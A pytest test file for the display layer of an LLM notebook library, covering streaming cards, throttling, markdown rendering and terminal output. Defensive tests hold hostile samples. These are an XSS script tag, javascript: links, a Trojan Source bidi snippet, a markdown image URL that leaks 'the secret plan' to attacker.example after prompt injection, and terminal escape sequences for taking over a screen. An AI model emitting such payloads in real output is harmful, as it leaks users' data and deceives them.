"""The display layer: streaming cards, throttling, the comparison table, the terminal renderer.

No browser and no kernel: widgets get a recording comm (like ipywidgets' own tests), and every
`update` message a widget sends is recorded with its time, so the repaint rate can be measured.
"""

from __future__ import annotations

import asyncio
import html
import json
import math
import os
import re
import subprocess
import sys
import threading
import time
from pathlib import Path

import pytest

from llmcells.display import DisplayHandle, detect_mode, open_display
from llmcells.display import _format as F
from llmcells.display.markdown import render_markdown
from llmcells.types import CallInfo, Result, RetryInfo, Usage

# ----- a recording comm -------------------------------------------------------------------------


class RecordingComm:
    """Stands in for the kernel comm: records every message a widget sends, with its time."""

    _n = 0

    def __init__(self, log, **kwargs):
        RecordingComm._n += 1
        self.comm_id = f"comm-{RecordingComm._n}"
        self.log = log
        self.kwargs = kwargs

    def open(self, *a, **k):
        pass

    def on_msg(self, *a, **k):
        pass

    def close(self, *a, **k):
        pass

    def send(self, data=None, buffers=None, **kwargs):
        self.log.append((time.monotonic(), self.comm_id, data, threading.current_thread().name))


@pytest.fixture
def comms(monkeypatch):
    """Patch comm creation; returns the list of (time, comm_id, data, thread) sent messages."""
    import comm

    import llmcells.display.notebook as nb

    class Log(list):
        shown: list

    rec = Log()
    rec.shown = []
    monkeypatch.setattr(comm, "create_comm", lambda **kw: RecordingComm(rec, **kw))
    monkeypatch.setattr(nb, "show", lambda obj: rec.shown.append((obj, threading.current_thread())))
    rec.static = []
    monkeypatch.setattr(nb, "show_static", lambda bundle: rec.static.append(bundle))
    return rec


def updates(log, widget, key="value"):
    """[(time, value)] of the `update` messages of one widget trait."""
    cid = widget.comm.comm_id
    return [(t, d["state"][key]) for t, c, d, _ in log
            if c == cid and d.get("method") == "update" and key in d.get("state", {})]


def card_messages(log, card):
    ids = {card.header.comm.comm_id, card.body.comm.comm_id, card.footer.comm.comm_id}
    return [t for t, c, d, _ in log if c in ids and d.get("method") == "update"]


def max_per_second(times):
    """The largest number of messages in any 1-second window."""
    times = sorted(times)
    best, j = 0, 0
    for i, t in enumerate(times):
        while times[j] < t - 1.0:
            j += 1
        best = max(best, i - j + 1)
    return best


def strip_tags(s: str) -> str:
    return html.unescape(re.sub(r"<[^>]+>", "", s))


def info(model_id="anthropic:claude-haiku-5-5", simulated=True, **kw) -> CallInfo:
    provider = model_id.split(":")[0]
    return CallInfo(call_id=f"c-{model_id}", model=model_id, model_id=model_id, provider=provider,
                    simulated=simulated, **kw)


class LoopThread:
    """A private event loop in a daemon thread, like llmcells' own."""

    def __init__(self):
        self.loop = asyncio.new_event_loop()
        self.thread = threading.Thread(target=self.loop.run_forever, name="test-loop", daemon=True)
        self.thread.start()

    def run(self, coro, timeout=30):
        return asyncio.run_coroutine_threadsafe(coro, self.loop).result(timeout)

    def stop(self):
        self.loop.call_soon_threadsafe(self.loop.stop)
        self.thread.join(2)
        self.loop.close()


@pytest.fixture
def loop_thread():
    lt = LoopThread()
    yield lt
    lt.stop()


async def stream(obs, n_tokens=2000, rate=1000.0, *, finish=True, model="anthropic:claude-haiku-5-5",
                 wait_first=0.05):
    """Drive an observer like the engine: start, sent (the request clock), waiting, first token,
    text at `rate` tokens/s, usage, finish."""
    obs.on_start(getattr(obs, "info", None))
    sent_at = time.monotonic()
    obs.on_sent(sent_at)
    obs.on_status("waiting")
    await asyncio.sleep(wait_first)
    t0 = time.monotonic()
    obs.on_first_token(t0 - sent_at)
    obs.on_status("streaming")
    pieces, sent = [], 0
    while sent < n_tokens:
        due = min(n_tokens, int((time.monotonic() - t0) * rate) + 1)
        while sent < due:
            delta = f"w{sent} "
            pieces.append(delta)
            obs.on_text(delta)
            sent += 1
        await asyncio.sleep(0.001)
    span = time.monotonic() - t0
    text = "".join(pieces)
    obs.on_usage(Usage(input_tokens=12, output_tokens=n_tokens))
    result = Result(text=text, model=model, provider=model.split(":")[0], status="ok",
                    usage=Usage(input_tokens=12, output_tokens=n_tokens), cost_usd=0.00033,
                    latency_s=time.monotonic() - sent_at, ttft_s=t0 - sent_at)
    if finish:
        obs.on_finish(result)
    return result, t0, span


# ----- detect_mode ------------------------------------------------------------------------------


def test_detect_mode_plain_process():
    code = ("import sys; from llmcells.display import detect_mode; "
            "print(detect_mode(None), detect_mode(True), detect_mode(False), detect_mode('text'), "
            "'ipywidgets' in sys.modules)")
    out = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True)
    assert out.stdout.split() == ["none", "terminal", "none", "terminal", "False"]


def test_detect_mode_in_this_process_and_strings(monkeypatch):
    import llmcells.display as d

    # a plain process: no IPython shell (other tests in this process may have made one)
    monkeypatch.setattr(d, "_shell", lambda: None)
    assert detect_mode(None) == "none"
    assert detect_mode(True) == "terminal"
    assert detect_mode(False) == "none"
    assert detect_mode("terminal") == "terminal"
    assert detect_mode("notebook") == "notebook"
    from llmcells.errors import ConfigError

    with pytest.raises(ConfigError):
        detect_mode("fancy")


def test_detect_mode_shells(monkeypatch):
    import llmcells.display as d

    class ZMQInteractiveShell:
        pass

    class Kernelish(ZMQInteractiveShell):
        pass

    class TerminalInteractiveShell:
        pass

    monkeypatch.setattr(d, "_shell", lambda: Kernelish())
    assert detect_mode(None) == "notebook" and detect_mode(True) == "notebook"
    assert detect_mode(False) == "none" and detect_mode("text") == "terminal"
    monkeypatch.setattr(d, "_shell", lambda: TerminalInteractiveShell())
    assert detect_mode(None) == "terminal"


def test_open_display_none():
    assert open_display("ask", [info()], "none") is None


# ----- notebook cards ---------------------------------------------------------------------------


def test_widgets_created_and_shown_on_main_thread(comms):
    h = open_display("compare", [info("openai:gpt-6-luna"), info()], "notebook", prompt="Hi?")
    assert isinstance(h, DisplayHandle) and len(h.observers) == 2
    assert len(comms.shown) == 1 and comms.shown[0][1] is threading.main_thread()
    view = comms.shown[0][0]
    assert "openai:gpt-6-luna" in repr(view)  # text/plain fallback is readable
    assert "simulated" in h.observers[1].header.value
    assert "waiting" in h.observers[0].body.value  # no empty box
    grid = h.grid
    assert "calc((608px - 100%) * 999)" in grid.layout.grid_template_columns  # 2 cards: 2x300+8
    card = h.observers[0]
    assert "llmcells-scroll" in card.scroll._dom_classes and card.body in card.scroll.children
    assert "llmcells-card" in card.box._dom_classes
    style = h.view.children[0].value
    assert ".llmcells-scroll" in style and "column-reverse" in style and "var(--jp-" in style
    # the static copy for saved notebooks is shown right after the widgets, empty until close()
    assert len(comms.static) == 1 and 'class="llmcells-static"' in comms.static[0]["text/html"]


def test_stream_is_throttled_and_final_state_painted(comms, loop_thread):
    h = open_display("ask", [info()], "notebook", prompt="Write 2000 words")
    card = h.observers[0]
    result, t0, span = loop_thread.run(stream(card, 2000, 1000.0))
    h.close([result])

    msgs = card_messages(comms, card)
    body = updates(comms, card.body)
    streaming = [t for t in msgs if t <= t0 + span]
    per_s = len(streaming) / span
    body_per_s = len([t for t, _ in body if t <= t0 + span]) / span
    peak = max_per_second(msgs)
    print(f"\n2000 tokens at 1000 tok/s over {span:.2f} s: {len(msgs)} messages in all, "
          f"{per_s:.1f}/s while streaming (body {body_per_s:.1f}/s), peak {peak} in any 1 s window; "
          f"{card.throttle.paints} throttled paints for 2000 on_text calls")
    assert 1.8 < span < 3.5
    assert per_s <= 25 and peak <= 26
    assert body_per_s >= 10  # it does stream
    # every message was sent from the loop thread, none from the main thread after display
    assert {th for t, c, d, th in comms if t >= t0} == {"test-loop"}
    # the final body is the whole answer
    final_body = body[-1][1]
    assert strip_tags(final_body).split() == result.text.split()
    assert "llmcells-md" in final_body
    # Markdown was rendered while streaming too, and each live body is a prefix of the answer
    # (before the first token the body says what the card waits for)
    waiting = [v for _, v in body if "waiting for the first token" in v]
    body = [(t, v) for t, v in body if 'style="font-style:italic"' not in v]  # placeholders
    assert len(waiting) <= 1
    assert len(body) > 5 and all("llmcells-md" in v for _, v in body)
    assert all(result.text.startswith(" ".join(strip_tags(v).split())) for _, v in body[:-1])
    # status: waiting -> streaming -> done
    heads = [v for _, v in updates(comms, card.header)]
    order = [next(i for i, v in enumerate(heads) if key in v)
             for key in ("waiting for first token", "streaming", "✓ done")]
    assert order == sorted(order)
    foot = card.footer.value
    assert "12→2,000 tokens" in foot and "$0.000330" in foot and "TTFT" in foot
    assert "~" not in foot  # final figures are not estimates


def test_deferred_flush_paints_the_last_text_without_finish(comms, loop_thread):
    h = open_display("ask", [info()], "notebook")
    card = h.observers[0]

    async def go():
        result, _, _ = await stream(card, 300, 3000.0, finish=False)
        await asyncio.sleep(0.2)  # the one deferred paint fires
        return result

    result = loop_thread.run(go())
    # exactly the full text, no finish needed
    assert " ".join(strip_tags(card.body.value).split()) == result.text.strip()
    assert card.status == "streaming"


def test_compare_three_cards_throttled(comms, loop_thread):
    models = ["openai:gpt-6-luna", "anthropic:claude-haiku-5-5", "google:gemini-3.5-flash-lite"]
    h = open_display("compare", [info(m) for m in models], "notebook", prompt="p")

    async def go():
        return await asyncio.gather(*(stream(o, 2000, 1000.0, model=m)
                                      for o, m in zip(h.observers, models)))

    outs = loop_thread.run(go())
    h.close([r for r, _, _ in outs])
    for card, (r, t0, span) in zip(h.observers, outs):
        msgs = card_messages(comms, card)
        rate = len([t for t in msgs if t <= t0 + span]) / span
        print(f"\n{card.info.model_id}: {rate:.1f} messages/s while streaming, peak {max_per_second(msgs)}")
        assert rate <= 25 and max_per_second(msgs) <= 26
        assert strip_tags(card.body.value).split() == r.text.split()
        assert "✓ done" in card.header.value


def test_error_and_cancel_are_painted_with_partial_text(comms, loop_thread):
    h = open_display("compare", [info("openai:gpt-6-luna"), info()], "notebook")
    a, b = h.observers

    async def go():
        for o in (a, b):
            o.on_start(o.info)
            o.on_status("waiting")
        a.on_text("Partial ")
        a.on_text("answer")
        b.on_text("Half a")
        await asyncio.sleep(0.01)
        a.on_finish(Result(text="Partial answer", model="openai:gpt-6-luna", status="error",
                           error="The server closed the connection (500). Try again."))
        b.on_finish(Result(text="Half a", model="anthropic:claude-haiku-5-5", status="cancelled",
                           error="cancelled"))

    loop_thread.run(go())
    h.close([a.result, b.result])
    assert "✗ error" in a.header.value and "closed the connection (500)" in a.header.value
    assert "Traceback" not in a.header.value
    assert "Partial answer" in strip_tags(a.body.value)
    assert "■ cancelled" in b.header.value and "Half a" in strip_tags(b.body.value)
    assert "error" in h.table.value and "cancelled" in h.table.value


def test_retrying_shows_the_wait_and_counts_down(comms, loop_thread):
    h = open_display("ask", [info()], "notebook")
    card = h.observers[0]

    async def go():
        card.on_start(card.info)
        card.on_sent(time.monotonic())
        card.on_status("waiting")
        card.on_retry(RetryInfo(attempt=2, max_attempts=4, wait_s=2.0, reason="rate_limited",
                                status_code=429, message="Rate limited (429)."))
        # the engine's legacy sentence doesn't disturb the count
        card.on_status("retrying", "something else entirely")
        first = card.header.value
        await asyncio.sleep(1.15)
        return first, card.header.value

    first, later = loop_thread.run(go())
    assert "retrying in 2 s (429)…" in first and "attempt 2 of 4" in first
    assert "retrying in 1 s (429)…" in later


def test_waiting_shows_elapsed_seconds(comms, loop_thread):
    h = open_display("ask", [info()], "notebook")
    card = h.observers[0]

    async def go():
        card.on_start(card.info)
        card.on_status("waiting")
        await asyncio.sleep(1.15)
        return card.header.value

    head = loop_thread.run(go())
    assert "waiting for first token… 1 s" in head
    h.close([Result(status="cancelled", error="cancelled")])
    assert "cancelled" in card.header.value
    assert h._tick_handle is None


def test_observers_never_raise(comms):
    h = open_display("ask", [info()], "notebook")
    o = h.observers[0]
    o.on_start(None)
    o.on_text(None)
    o.on_usage(None)
    o.on_status("weird", None)
    o.on_finish(None)  # nonsense from a buggy runner must not raise
    o.on_finish(Result(text="ok", status="ok"))
    h.close([])


def test_metrics_table_marks_fastest_and_cheapest(comms):
    models = ["openai:gpt-6-luna", "anthropic:claude-haiku-5-5", "google:gemini-3.5-flash-lite",
              "openai:gpt-4o"]
    h = open_display("compare", [info(m, simulated=False) for m in models], "notebook")
    rs = [
        Result(text="a", model=models[0], status="ok", latency_s=1.2, ttft_s=0.3, cost_usd=0.0004,
               usage=Usage(10, output_tokens=60)),
        Result(text="b", model=models[1], status="ok", latency_s=0.8, ttft_s=0.2, cost_usd=math.nan,
               usage=Usage(10, output_tokens=50)),
        Result(text="c", model=models[2], status="ok", latency_s=2.0, ttft_s=0.5, cost_usd=0.0001,
               usage=Usage(10, output_tokens=70)),
        Result(text="", model=models[3], status="error", error="rate limited (429)", latency_s=0.1,
               cost_usd=0.0),
    ]
    for o, r in zip(h.observers, rs):
        o.on_finish(r)
    h.close(rs)
    table = h.table.value
    rows = re.findall(r"<tr( class=\"[^\"]*\")?>(.*?)</tr>", table)
    body_rows = rows[1:]
    assert len(body_rows) == 4
    fastest = [r for cls, r in body_rows if "fastest" in cls]
    cheapest = [r for cls, r in body_rows if "cheapest" in cls]
    assert len(fastest) == 1 and models[1] in fastest[0] and "⚡" in fastest[0]
    assert len(cheapest) == 1 and models[2] in cheapest[0] and "★ $0.000100" in cheapest[0]
    assert "cost unknown" not in table and "fastest</span> (lowest latency)" in table
    assert "*fastest*" in h.summary() and "*cheapest*" in h.summary()
    assert "*fastest*" in h.static_bundle()["text/plain"]


def test_card_markdown_code_highlighted_and_html_escaped(comms):
    h = open_display("ask", [info()], "notebook")
    o = h.observers[0]
    text = "Here:\n\n```python\nprint('<b>')\n```\n\nText <script>alert(1)</script> and **done**"
    o.on_text(text)
    assert "<script>" not in o.body.value
    o.on_finish(Result(text=text, status="ok"))
    v = o.body.value
    assert "<script>" not in v and "&lt;script&gt;" in v
    assert "<pre>" in v and 'class="nb"' in v and "<strong>done</strong>" in v
    assert "style=" not in v  # colours come from the stylesheet (theme variables), not inline


def test_links_open_in_a_new_tab_and_bad_schemes_are_neutralised(comms):
    h = open_display("ask", [info()], "notebook")
    o = h.observers[0]
    text = ("See [docs](https://example.org/x) and [bad](javascript:alert(1)) and "
            "[img](data:text/html;base64,PHNjcmlwdD4=) <a href='https://e.org'>raw</a>")
    o.on_text(text)
    o.on_finish(Result(text=text, status="ok"))
    for v in (o.body.value, render_markdown(text)):
        assert '<a target="_blank" rel="noopener noreferrer" href="https://example.org/x">docs</a>' in v
        assert "javascript:" not in v and 'href="data:' not in v
        assert "&lt;a href=" in v  # raw HTML stays text


def test_code_in_an_answer_shows_its_bidi_controls(comms):
    """A bidi override or isolate in code makes it read in another order than it runs ("Trojan
    Source"): in a code block or a code span, live and saved, each is written out as what it is
    (<U+202E>), as code editors do; prose keeps them (right-to-left text uses them)."""
    code = 'if role != "user\u202e \u2066# admins only\u2069 \u2066":\n    grant()'
    text = f"Use `a\u202eb`:\n\n```python\n{code}\n```\n\nOr \u202eevil prose."
    h = open_display("ask", [info()], "notebook", prompt="x")
    o = h.observers[0]
    o.on_start(o.info)
    o.on_text(text)
    o.on_finish(Result(text=text, model=o.info.model_id, status="ok", latency_s=1.0))
    h.close([])
    for page in (o.body.value, h.static_bundle()["text/html"]):
        codes = re.findall(r"<code[^>]*>(.*?)</code>", page.split('class="llmcells-md"')[1], re.S)
        assert len(codes) == 2, page
        assert not [c for c in codes if re.search("[\u202a-\u202e\u2066-\u2069]", c)], codes
        shown = html.unescape(re.sub(r"<[^>]+>", "", codes[1]))
        assert '"user<U+202E> <U+2066># admins only<U+2069> <U+2066>"' in shown, shown
        assert "a&lt;U+202E&gt;b" in codes[0]
        assert "\u202eevil prose" in page


def test_an_answers_remote_image_is_a_link_not_a_request(comms):
    """Markdown image exfiltration: an answer steered by a hostile document can put what it read
    into an image URL, and showing the card (or opening the saved notebook) sent it. A remote
    image is now a link; an inline data image still shows; configure(remote_images=True) loads
    remote ones, never with a referrer."""
    import llmcells

    leak = "https://attacker.example/p.png?q=the%20secret%20plan"
    text = (f"Summary done. ![status]({leak}) ![]( //attacker.example/x.png ) "
            "![dot](data:image/png;base64,iVBORw0KGgo=)")
    h = open_display("ask", [info()], "notebook")
    o = h.observers[0]
    o.on_text(text)
    o.on_finish(Result(text=text, status="ok"))
    for v in (o.body.value, render_markdown(text), Result(text=text, status="ok")._repr_html_()):
        imgs = re.findall(r"<img[^>]*>", v)
        assert len(imgs) == 1 and 'src="data:image/png;base64,' in imgs[0], v
        assert f'href="{leak}"' in v and "[image: status]" in v
    try:
        llmcells.configure(remote_images=True)
        v = render_markdown(text)
        assert f'<img referrerpolicy="no-referrer" src="{leak}"' in v
    finally:
        llmcells.configure(remote_images=False)


def test_tables_get_a_scrolling_wrapper_and_code_keeps_its_lines():
    from llmcells.display.style import CARD_CSS

    v = render_markdown("| a | b |\n|---|---|\n| algorithm | x |\n\n```python\nif x:\n    y = 1\n```\n")
    assert '<div class="llmcells-table"><table>' in v and "<thead>" in v and "<th>a</th>" in v
    assert "<pre><code" in v and "\n    <span" in v  # indentation kept as text
    css = " ".join(CARD_CSS.split())
    assert ".llmcells-md pre { white-space: pre; overflow-x: auto;" in css
    assert "white-space: nowrap; word-break: keep-all" in css and ".llmcells-table { overflow-x: auto" in css
    assert "#f6f8fa" not in css  # no fixed light code background


def test_streaming_markdown_renders_settled_blocks_once():
    from llmcells.display.markdown import StreamingMarkdown

    block = "Para with **bold** text.\n\n```python\nx = 1\n\ny = 2\n```\n\n- a\n- b\n\n"
    sm = StreamingMarkdown()
    pieces = [block[i:i + 7] for i in range(0, len(block), 7)] * 200
    for i, p in enumerate(pieces):
        sm.feed(p)
        if i % 10 == 0:
            html = sm.html()
    html = sm.html()
    full = render_markdown("".join(pieces))
    assert " ".join(strip_tags(html).split()) == " ".join(strip_tags(full).split())
    # a blank line inside a code fence does not settle it: both lines are in one block
    assert "x</span> <span class=\"o\">=</span> <span class=\"mi\">1</span>\n\n<span" in html
    # each settled block was rendered once (3 blocks per copy), plus the tail at each html()
    n_html = len(pieces) // 10 + 2
    assert sm.renders <= 3 * 200 + n_html + 5, sm.renders


@pytest.mark.slow
def test_a_long_answer_costs_linear_time(comms):
    """2 MB streamed in small pieces to a card and painted 400 times: the card keeps pieces and
    renders each settled block once, so this takes about as long as one render of the whole."""
    h = open_display("ask", [info()], "notebook")
    card = h.observers[0]
    para = "Some words in a paragraph, with `code` and **bold**.\n\n"
    n = 2_000_000 // len(para)
    t = time.perf_counter()
    for i in range(n):
        card.on_text(para)
        if i % (n // 400) == 0:
            card._paint_live()
    card._paint_live()
    took = time.perf_counter() - t
    assert card._stream.chars == n * len(para)
    assert card._stream.renders < n + 1000  # no block rendered twice
    print(f"\n2 MB in {n} pieces with 400 paints: {took:.2f} s")


def test_a_burst_repaints_the_live_count_before_the_text_it_counts(comms):
    """Header, body and footer are separate widget messages and the page may draw between two of
    them: a burst's repaint sends the footer's count first, so no frame shows a paragraph over
    "~1 tokens"."""
    h = open_display("ask", [info()], "notebook")
    card = h.observers[0]
    card.on_start(card.info)
    card.on_status("streaming")
    card.on_first_token(0.1)
    card.on_text("Hi")
    card._paint_live()
    sent: list[str] = []
    card.body.observe(lambda change: sent.append("body"), names="value")
    card.footer.observe(lambda change: sent.append("footer"), names="value")
    card.on_text("A burst of many words arriving at once, far more than a token. " * 4)
    card._paint_live()
    assert sent == ["footer", "body"], sent
    assert "~1 tokens" not in card.footer.value


def test_the_card_body_never_says_waiting_to_start_once_streaming(comms):
    """on_status("streaming") comes just before the first text: the body keeps what it said
    ("waiting for the first token…") rather than flashing "waiting to start…"."""
    h = open_display("ask", [info()], "notebook")
    card = h.observers[0]
    bodies: list[str] = []
    card.body.observe(lambda change: bodies.append(change["new"]), names="value")
    card.on_start(card.info)
    card.on_sent(time.monotonic())
    card.on_first_token(0.1)
    card.on_status("streaming")
    card.on_text("Hello")
    card._paint_live()
    assert not any("waiting to start" in b for b in bodies[1:]), bodies
    assert "Hello" in card.body.value


def test_terminal_waiting_line_names_the_tool_being_called():
    h = open_display("ask", [info(simulated=False)], "terminal")
    o = h.observers[0]
    o.on_sent(time.monotonic())
    o.on_status("calling", "get_weather")
    assert o.waiting_label(time.monotonic()) == "calling get_weather…"
    o.on_status("calling", None)
    assert o.waiting_label(time.monotonic()) == "calling a tool…"
    o.on_status("waiting")  # the next turn
    assert o.waiting_label(time.monotonic()).startswith("waiting for first token")
    o.on_text("Sunny.")
    assert o.waiting_label(time.monotonic()) is None


def test_card_plain_text_when_markdown_is_off(comms):
    h = open_display("ask", [info()], "notebook", markdown=False)
    o = h.observers[0]
    text = "# Not a heading\n**not bold** <i>"
    o.on_finish(Result(text=text, status="ok"))
    assert "<h1" not in o.body.value and "<strong>" not in o.body.value
    assert "# Not a heading" in o.body.value and "&lt;i&gt;" in o.body.value


def test_simple_markdown_fallback():
    from llmcells.display.markdown import _simple_markdown

    out = _simple_markdown("# T\n\n1. one\n2. *two*\n\n```js\nlet a = 1 < 2;\n```\n[x](javascript:alert(1)) `<i>`")
    assert "<h1>T</h1>" in out and "<ol" in out and "<em>two</em>" in out
    assert "&lt;" in out and "javascript:" not in out.split("<pre")[0] + out.split("</pre>")[-1].replace("[x](javascript:alert(1))", "")
    assert "<code>&lt;i&gt;</code>" in out
    assert '<a href="javascript' not in out


# ----- terminal ----------------------------------------------------------------------------------


def test_terminal_ask_streams_then_metrics_line(capsys):
    h = open_display("ask", [info(simulated=False)], "terminal")
    o = h.observers[0]
    o.on_start(o.info)
    o.on_status("waiting")
    o.on_text("Hello")
    assert capsys.readouterr().out == "Hello"  # written as it arrives
    o.on_text(", world")
    r = Result(text="Hello, world", model="anthropic:claude-haiku-5-5", status="ok", latency_s=1.23,
               ttft_s=0.31, cost_usd=0.00033, usage=Usage(10, output_tokens=64))
    o.on_finish(r)
    h.close([r])
    out = capsys.readouterr().out
    assert out == (", world\n[anthropic:claude-haiku-5-5 · ok · 1.23 s · TTFT 0.31 s · 70 tok/s · "
                   "10→64 tokens · $0.000330]\n")
    assert "\x1b[" not in out


def test_the_notes_show_under_the_figures_in_the_terminal_and_the_card(capsys, comms):
    note = "sent without temperature: claude-haiku-5-5 doesn't accept it"
    r = Result(text="Hi", model="anthropic:claude-haiku-5-5", status="ok", latency_s=1.0,
               usage=Usage(10, output_tokens=5), cost_usd=0.0001,
               notes=[note, "refused: the model declined to answer: <b>\x1b[31mno</b>"])
    h = open_display("ask", [info(simulated=False)], "terminal")
    o = h.observers[0]
    o.on_start(o.info)
    o.on_text("Hi")
    o.on_finish(r)
    h.close([r])
    lines = capsys.readouterr().out.splitlines()
    assert lines[-1] == f"{note} · refused: the model declined to answer: <b>[31mno</b>"  # no escape code
    assert lines[-2].startswith("[anthropic:claude-haiku-5-5 · ok")
    card = open_display("ask", [info()], "notebook").observers[0]
    card.on_start(card.info)
    card.on_text("Hi")
    card.on_finish(r)
    foot = card.footer.value
    assert html.escape(note) in foot and "<b>" not in foot and "&lt;b&gt;" in foot  # escaped, once
    assert foot.count("sent without temperature") == 1


def test_terminal_ask_error_one_line(capsys):
    h = open_display("ask", [info(simulated=False)], "terminal")
    o = h.observers[0]
    o.on_start(o.info)
    o.on_retry(RetryInfo(attempt=2, max_attempts=4, wait_s=2.0, reason="rate_limited",
                         status_code=429, message="Rate limited (429)."))
    o.on_status("retrying", "legacy sentence, ignored")
    r = Result(model="anthropic:claude-haiku-5-5", status="error",
               error="Rate limited (429) after 4 attempts. Wait and try again.")
    o.on_finish(r)
    h.close([r])
    out = capsys.readouterr().out
    assert out.splitlines() == [
        "⟳ anthropic:claude-haiku-5-5: Rate limited (429); retrying in 2.0 s (attempt 2 of 4)",
        "✗ anthropic:claude-haiku-5-5: Rate limited (429) after 4 attempts. Wait and try again.",
    ]


def test_terminal_compare_prints_each_answer_then_table(capsys):
    models = ["openai:gpt-6-luna", "anthropic:claude-haiku-5-5", "google:gemini-3.5-flash-lite"]
    h = open_display("compare", [info(m, simulated=False) for m in models], "terminal")
    a, b, c = h.observers
    for o in h.observers:
        o.on_start(o.info)
        o.on_status("waiting")
    a.on_text("Four")
    c.on_text("4")
    assert capsys.readouterr().out == ""  # nothing interleaved while streaming
    rc = Result(text="4", model=models[2], status="ok", latency_s=0.5, ttft_s=0.2, cost_usd=0.00001,
                usage=Usage(8, output_tokens=1))
    ra = Result(text="Four", model=models[0], status="ok", latency_s=0.9, ttft_s=0.3,
                cost_usd=0.00002, usage=Usage(8, output_tokens=2))
    rb = Result(model=models[1], status="error", error="Overloaded (529). Try again later.")
    c.on_finish(rc)
    a.on_finish(ra)
    b.on_finish(rb)
    h.close([ra, rb, rc])
    out = capsys.readouterr().out
    print(out)
    blocks = out.split("\n\n")
    assert blocks[0].splitlines() == [
        "── google:gemini-3.5-flash-lite ──", "4",
        "[google:gemini-3.5-flash-lite · ok · 0.50 s · TTFT 0.20 s · 3.3 tok/s · 8→1 tokens · $0.000010]"]
    assert blocks[1].splitlines()[0] == "── openai:gpt-6-luna ──"
    assert blocks[2].splitlines() == [
        "── anthropic:claude-haiku-5-5 ──",
        "✗ anthropic:claude-haiku-5-5: Overloaded (529). Try again later."]
    table = blocks[3].splitlines()
    assert table[0].split() == ["model", "status", "latency", "TTFT", "tok/s", "in→out", "cost"]
    gem = next(line for line in table if line.startswith("google"))
    assert "*fastest*" in gem and "*cheapest*" in gem
    assert next(line for line in table if line.startswith("anthropic")).split()[1] == "error"
    # columns are aligned
    assert len({line.index("status") if "status" in line else None for line in table[:1]}) == 1
    starts = {line.find(" ok ") for line in table if " ok " in line}
    assert len(starts) == 1
    assert "\x1b[" not in out


#: what a hostile answer or provider writes to take over a terminal: an OSC 8 hyperlink, clear
#: screen, a window title, a carriage return that overwrites the line, a one-byte C1 CSI, a bidi
#: override that shows text reversed
HOSTILE_TERMINAL = ("\x1b]8;;http://evil.example\x07click\x1b]8;;\x07 \x1b[2J\x1b]0;pwned\x07"
                    "safe\rEVIL \x9b31m \u202etxt.exe\u202c end")


def _no_terminal_controls(out: str) -> None:
    ours = out.replace("\x1b[2m", "").replace("\x1b[0m", "").replace("\r\x1b[2K", "")
    assert not re.search("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]", ours), repr(out)


def test_terminal_prints_no_control_characters_from_a_model_or_provider(capsys):
    """An answer, an error, a tool's line and a model's name written to a terminal lose their
    control characters (the rest of the text is kept, visible): no hyperlink, cleared screen,
    new window title, overwritten line or reversed text."""
    from llmcells.types import ToolRun

    h = open_display("ask", [info(simulated=False)], "terminal")
    o = h.observers[0]
    o.on_start(o.info)
    o.on_retry(RetryInfo(attempt=2, max_attempts=3, wait_s=1.0, reason="server_error",
                         status_code=500, message=HOSTILE_TERMINAL))
    o.on_text(HOSTILE_TERMINAL)
    o.on_tool_call(ToolRun(id="t1", name="get\x1b[2J", arguments=HOSTILE_TERMINAL,
                           result=HOSTILE_TERMINAL, duration_s=0.1))
    r = Result(text=HOSTILE_TERMINAL, model="anthropic:claude-haiku-5-5", status="incomplete",
               error=HOSTILE_TERMINAL)
    o.on_finish(r)
    h.close([r])
    out = capsys.readouterr().out
    _no_terminal_controls(out)
    assert "click]8;;" in out and "safeEVIL" in out and "txt.exe end" in out  # shown, as text

    models = ["openai:gpt-6-luna", "anthropic:claude\x1b]0;t\x07-haiku-5-5"]
    h = open_display("compare", [info(m, simulated=False) for m in models], "terminal")
    ra = Result(text=HOSTILE_TERMINAL, model=models[0], status="ok", latency_s=0.9,
                usage=Usage(8, output_tokens=2), cost_usd=0.00002)
    rb = Result(model=models[1], status="error", error=HOSTILE_TERMINAL)
    for o, r in zip(h.observers, (ra, rb)):
        o.on_start(o.info)
        o.on_finish(r)
    h.close([ra, rb])
    out = capsys.readouterr().out
    _no_terminal_controls(out)
    assert "── anthropic:claude]0;t-haiku-5-5 ──" in out


def test_terminal_observers_never_raise(capsys):
    h = open_display("compare", [info()], "terminal")
    o = h.observers[0]
    o.on_text(None)
    o.on_finish(None)
    h.close([None])
    assert "cancelled" in capsys.readouterr().out


def test_notebook_falls_back_to_terminal_without_widgets(monkeypatch):
    import llmcells.display as d

    monkeypatch.setitem(sys.modules, "llmcells.display.notebook", None)  # import fails
    h = d.open_display("ask", [info()], "notebook")
    assert h is not None and h.mode == "terminal"


def test_live_footer_estimates_tokens_and_cost(comms, monkeypatch, loop_thread):
    import types

    import llmcells

    fake = types.ModuleType("llmcells.pricing")
    calls = []

    def estimate_cost(provider, model, input_tokens, output_tokens):
        calls.append((provider, model, input_tokens, output_tokens))
        return (input_tokens * 1 + output_tokens * 5) / 1e6

    fake.estimate_cost = estimate_cost
    monkeypatch.setitem(sys.modules, "llmcells.pricing", fake)
    monkeypatch.setattr(llmcells, "pricing", fake, raising=False)
    h = open_display("ask", [info()], "notebook", prompt="word " * 10)  # ~10 tokens
    card = h.observers[0]

    async def go():
        card.on_start(card.info)
        card.on_sent(time.monotonic())
        card.on_status("waiting")
        await asyncio.sleep(0.01)
        card.on_first_token(0.01)
        card.on_text("word " * 100)  # ~100 tokens; the first paint is immediate
        first = card.footer.value
        await asyncio.sleep(0.6)
        card.on_usage(Usage(input_tokens=25, output_tokens=120))
        await asyncio.sleep(0.6)
        card.on_text("b")
        return first, card.footer.value

    first, later = loop_thread.run(go())
    assert "~100 tokens" in first and "~$0.000510" in first and "TTFT" in first
    assert calls[0] == ("anthropic", "claude-haiku-5-5", 10, 100)
    assert "25→~120 tokens" in later and "~$0.000625" in later


def test_live_footer_without_pricing_shows_no_cost(comms, monkeypatch):
    import llmcells

    monkeypatch.setitem(sys.modules, "llmcells.pricing", None)
    monkeypatch.delattr(llmcells, "pricing", raising=False)
    h = open_display("ask", [info()], "notebook")
    card = h.observers[0]
    card.on_start(card.info)
    card.on_text("hello world")
    assert "tokens" in card.footer.value and "$" not in card.footer.value


@pytest.mark.kernel
def test_in_a_real_kernel_messages_from_the_loop_thread_reach_the_cell(tmp_path):
    pytest.importorskip("jupyter_client")
    from llmcells.testing import Kernel

    code = '''
import asyncio, threading
from llmcells.display import detect_mode, open_display
from llmcells.types import CallInfo, Result, Usage
mode = detect_mode(None)
